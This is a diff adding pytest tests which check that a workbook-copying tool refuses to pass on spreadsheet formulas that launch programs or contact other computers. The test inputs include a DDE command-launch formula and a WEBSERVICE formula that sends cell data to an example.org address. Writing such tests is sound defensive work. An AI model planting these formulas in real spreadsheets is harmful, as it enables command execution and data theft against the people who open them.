@@ -119,6 +119,25 @@ def test_a_strict_workbook_gets_no_copy() -> None:
     assert mark(with_parts(book(), {"xl/workbook.xml": strict}), [QUERY], Reply("A", None, "", "2")) is None
 
 
+@pytest.mark.parametrize(
+    "formula",
+    ["=cmd|'/C calc'!A0", '=WEBSERVICE("https://example.org/?"&B5)', '=webservice ("x")', '=RTD("a",,"b")'],
+)
+def test_a_formula_that_reaches_out_gets_no_copy(formula: str) -> None:
+    """What starts another program or asks another computer is not sent on under the report author's name."""
+    workbook = load_workbook(io.BytesIO(book()))
+    workbook["Choices"]["A2"] = formula
+    assert mark(saved(workbook), [QUERY], Reply("A", None, "", "2")) is None
+
+
+def test_formulas_of_a_return_are_carried_over() -> None:
+    """A sum, a link that is written out, and a text with a bar in it do no harm."""
+    workbook = load_workbook(io.BytesIO(book()))
+    workbook["Choices"]["A2"], workbook["Choices"]["A3"] = "=SUM(B1:B2)", '=HYPERLINK("https://a.org","A")'
+    workbook["Choices"]["A4"] = "Red | Amber!"
+    assert made(saved(workbook)).lost == ()
+
+
 def test_merged_areas_count_as_cells() -> None:
     """A workbook in memory holds a cell for each of those merged, so they count."""
     workbook = Workbook()
